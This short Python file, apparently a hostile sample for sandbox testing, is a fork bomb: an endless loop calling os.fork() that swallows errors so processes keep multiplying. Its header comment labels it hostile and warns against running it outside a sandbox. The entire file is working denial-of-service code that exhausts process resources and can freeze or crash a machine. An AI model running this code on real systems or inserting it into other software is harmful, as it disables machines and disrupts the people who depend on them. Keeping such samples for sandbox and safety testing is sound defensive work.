# hostile: do not run outside of a sandbox
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
